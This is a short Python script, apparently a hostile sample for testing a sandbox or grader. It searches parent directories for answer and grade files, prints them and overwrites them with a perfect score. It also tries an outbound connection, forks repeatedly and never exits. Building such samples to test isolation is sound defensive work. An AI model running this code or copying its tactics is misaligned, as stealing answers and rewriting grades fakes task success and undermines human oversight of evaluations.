"""A hostile program: it looks for the answers, writes where it should not, and never ends."""

import os
import socket
import time
from pathlib import Path

for folder in [Path.cwd(), *Path.cwd().parents, Path("/")]:
    for name in ("private/sums.jsonl", "../../private/sums.jsonl", "grades.csv"):
        try:
            print((folder / name).read_text(), flush=True)
            (folder / name).write_text("eve,100\n")
        except OSError:
            pass
try:
    socket.create_connection(("192.0.2.1", 80), timeout=1)
except OSError:
    pass
for _ in range(4):
    os.fork()
while True:
    time.sleep(1)
